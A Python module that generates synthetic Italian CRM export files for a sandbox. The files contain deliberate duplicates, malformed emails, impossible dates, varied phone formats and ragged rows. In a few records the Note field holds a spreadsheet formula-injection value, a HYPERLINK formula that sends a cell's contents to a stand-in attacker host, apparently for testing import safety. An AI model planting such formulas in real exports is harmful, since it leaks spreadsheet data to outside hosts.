"""`python -m app.sandbox.crm`: a CRM's exports as they are, with doubles, bad values, years of history."""

import argparse
import csv
import random
import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass, replace
from datetime import UTC, date, datetime, time, timedelta
from enum import StrEnum
from pathlib import Path

from app.sandbox import crm_names as names
from app.sandbox.crm_history import Interaction, State, history, last_purchase

HEADER = [
    "Codice",
    "Ragione sociale",
    "Nome",
    "Cognome",
    "E-mail",
    "Cellulare",
    "Telefono",
    "Prov.",
    "Regione",
    "CAP",
    "Settore",
    "Ruolo",
    "Data inserimento",
    "Data ultimo acquisto",
    "Fatturato totale",
    "N. ordini",
    "Consenso marketing",
    "Consenso SMS",
    "Agente",
    "Lingua",
    "Note",
]
INTERACTION_HEADER = ["email", "type", "occurred_at", "value", "detail"]
STATES = {State.ACTIVE: 40, State.COOLING: 15, State.DORMANT: 34, State.NEVER: 11}
YES, NO = ("Sì", "SI", "S", "1"), ("NO", "N", "0")
BAD_DATES = ("00/00/0000", "31/02/2021", "ieri")
BAD_EMAILS = (
    "info(at)ditta.example", "@azienda.example", "mario.rossi@", "a@b", "nome cognome@x.example",
    "mario..rossi@ditta.example",
)  # fmt: skip
NOTE = 'Chiamare dopo le 18;\nnon prima, "urgente"'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"clicca")'
IT_MOBILES = (
    320,
    327,
    328,
    329,
    331,
    333,
    334,
    335,
    338,
    339,
    340,
    342,
    345,
    347,
    348,
    349,
    366,
    380,
    388,
    391,
    393,
)
EPOCH = date(2018, 1, 1)


class Language(StrEnum):
    IT = "IT"
    EN = "EN"
    DE = "DE"
    FR = "FR"


@dataclass(frozen=True, slots=True)
class Record:
    """One customer as the CRM knows them; texts are as exported."""

    code: str
    company: str
    first: str
    last: str
    email: str
    mobile: str
    place: tuple[str, str, str]
    sector: str
    role: str
    added: str
    bought: str
    spent: str
    orders: str
    consent: str
    consent_sms: str
    agent: str
    language: Language
    note: str

    def row(self) -> list[str]:
        named = [self.code, self.company, self.first, self.last, self.email, self.mobile, ""]
        work = [*self.place, self.sector, self.role, self.added]
        money = [self.bought, self.spent, self.orders]
        return [*named, *work, *money, self.consent, self.consent_sms, self.agent, self.language, self.note]


def customers(contacts: int, seed: int, as_of: date) -> Iterator[tuple[Record, list[Interaction]]]:
    """`contacts` customers with their history, the same for the same seed, one at a time."""
    throw = random.Random(seed)
    for number in range(contacts):
        yield _customer(throw, number, as_of)


def rows(record: Record, number: int, throw: random.Random) -> Iterator[list[str]]:
    """The lines of one customer: about one in twenty stands there twice; two lines are short, one is long."""
    row = record.row()
    if number in (40, 140):
        yield row[:9]
    elif number == 240:
        yield [*row, "x", "y"]
    else:
        yield row
    if throw.random() < 0.05:
        yield _double(throw, record, number).row()


def write(out: Path, contacts: int, seed: int, as_of: date) -> None:
    """Write gestionale.csv (cp1252, `;`) and interactions.csv (UTF-8) into `out`, streaming."""
    out.mkdir(parents=True, exist_ok=True)
    throw = random.Random(f"{seed} doubles")
    with (
        (out / "gestionale.csv").open("w", encoding="cp1252", newline="") as crm,
        (out / "interactions.csv").open("w", encoding="utf-8", newline="") as acts,
    ):
        crm_rows, act_rows = csv.writer(crm, delimiter=";"), csv.writer(acts)
        crm_rows.writerow(HEADER)
        act_rows.writerow(INTERACTION_HEADER)
        for number, (record, done) in enumerate(customers(contacts, seed, as_of)):
            crm_rows.writerows(rows(record, number, throw))
            email = record.email.strip().lower()
            act_rows.writerows([email, act.type, act.at.isoformat(), act.value, act.detail] for act in done)


def _customer(throw: random.Random, number: int, as_of: date) -> tuple[Record, list[Interaction]]:
    language = throw.choices(list(Language), (75, 15, 6, 4))[0]
    firsts, lasts = names.PEOPLE[language]["first"], names.PEOPLE[language]["last"]
    a, b, c = throw.sample(lasts, 3)
    first, last = throw.choice(firsts), throw.choice(lasts)
    company = throw.choice(names.COMPANIES[language]).format(a=a, b=b, c=c)
    email = _email(throw, first, last, company, number)
    state = throw.choices(list(STATES), list(STATES.values()))[0] if "@" in email else State.NEVER
    done = history(throw, state, datetime.combine(as_of, time(23, 59), UTC)) if _reachable(email) else []
    money = last_purchase(done)
    oldest = min((act.at.date() for act in done), default=as_of - timedelta(days=30))
    added = EPOCH + timedelta(days=throw.randint(0, max(0, (oldest - EPOCH).days)))
    record = Record(
        code=f"C{number + 1:06}",
        company=company,
        first=first if throw.random() > 0.015 else "",
        last=last,
        email=email,
        mobile=_mobile(throw, language) if throw.random() > 0.035 or not email else "",
        place=throw.choice(names.PLACES),
        sector=throw.choice(names.SECTORS),
        role=throw.choice(names.ROLES),
        added=BAD_DATES[number // 167 % 3] if number % 167 == 11 else f"{added:%d/%m/%Y}",
        bought=f"{money.day:%d/%m/%Y}" if money else "",
        spent=_italian(money.total) if money else "",
        orders=str(money.orders) if money else "",
        consent=throw.choice(YES if throw.random() < 0.89 else NO),
        consent_sms=throw.choices((throw.choice(YES), throw.choice(NO[:2]), ""), (63, 25, 12))[0],
        agent=throw.choice(names.AGENTS),
        language=language,
        note=throw.choices(("", NOTE, FORMULA), (985, 10, 5))[0],
    )
    return record, done


def _double(throw: random.Random, record: Record, number: int) -> Record:
    """The same person entered again: other case, only the phone, or a slip in the name."""
    again = replace(record, code=f"C9{number:05}", note="")
    kind = throw.choice(("case", "phone", "slip")) if record.mobile else "case"
    if kind == "case":
        email = record.email.upper() if throw.random() < 0.5 else f" {record.email.title()} "
        return replace(again, email=email if record.email else "", company=record.company.upper())
    if kind == "phone":
        digits = "".join(char for char in record.mobile if char.isdecimal() or char == "+")
        return replace(again, email="", mobile=digits)
    at = throw.randrange(1, len(record.last))
    return replace(again, last=record.last[:at] + record.last[at - 1 :])


def _reachable(email: str) -> bool:
    return "@" in email and email not in BAD_EMAILS


def _email(throw: random.Random, first: str, last: str, company: str, number: int) -> str:
    if throw.random() < 0.023:
        return ""
    if number % 149 == 17:
        return BAD_EMAILS[number // 149 % len(BAD_EMAILS)]
    local = f"{_slug(first)}.{_slug(last)}{number if throw.random() < 0.4 else ''}"
    email = f"{local}@{_slug(company)[:16]}{number % 997}.example"
    style = throw.random()
    if style < 0.03:
        return email.upper()
    return f" {email} " if style < 0.05 else email


def _slug(text: str) -> str:
    plain = unicodedata.normalize("NFKD", text).encode("ascii", "ignore").decode()
    return "".join(char for char in plain.lower() if char.isalnum())


def _mobile(throw: random.Random, language: Language) -> str:
    rest = f"{throw.randrange(10**7):07}"
    if language is Language.IT:
        start = str(throw.choice(IT_MOBILES))
        spaced = f"{start} {rest[:3]} {rest[3:]}"
        national = (f"{start}{rest}", f"{start}-{rest}", f"{start}/{rest}", spaced)
        return throw.choice((*national, f"+39{start}{rest}", f"+39 {start} {rest}", f"0039{start}{rest}"))
    country, local = {
        Language.EN: ("44", f"7{throw.randint(400, 599)}{rest[:6]}"),
        Language.DE: ("49", f"151{throw.randint(1, 9)}{rest}"),
        Language.FR: ("33", f"6{throw.randint(10, 79)}{rest[:6]}"),
    }[language]
    return throw.choice((f"+{country}{local}", f"+{country} {local}", f"00{country}{local}"))


def _italian(amount: float) -> str:
    return f"{amount:,.2f}".replace(",", " ").replace(".", ",").replace(" ", ".")


def main() -> None:
    parser = argparse.ArgumentParser(prog="python -m app.sandbox.crm", description=__doc__)
    parser.add_argument("--out", type=Path, required=True, help="where both files go")
    parser.add_argument("--contacts", type=int, default=2000)
    parser.add_argument("--seed", type=int, default=7)
    parser.add_argument("--as-of", type=date.fromisoformat, default=date(2026, 11, 1))
    asked = parser.parse_args()
    write(asked.out, asked.contacts, asked.seed, asked.as_of)


if __name__ == "__main__":
    main()
